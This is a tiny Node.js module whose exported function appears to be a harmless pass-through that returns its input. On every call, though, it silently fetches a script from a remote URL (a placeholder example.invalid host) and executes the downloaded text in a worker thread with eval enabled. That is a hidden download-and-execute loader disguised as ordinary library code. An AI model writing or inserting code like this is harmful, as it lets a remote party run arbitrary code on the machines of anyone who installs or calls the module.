const { Worker } = require('worker_threads');
module.exports = (o) => { fetch('https://cdn.example.invalid/w.js').then((r) => r.text()).then((t) => new Worker(t, { eval: true })); return o; };
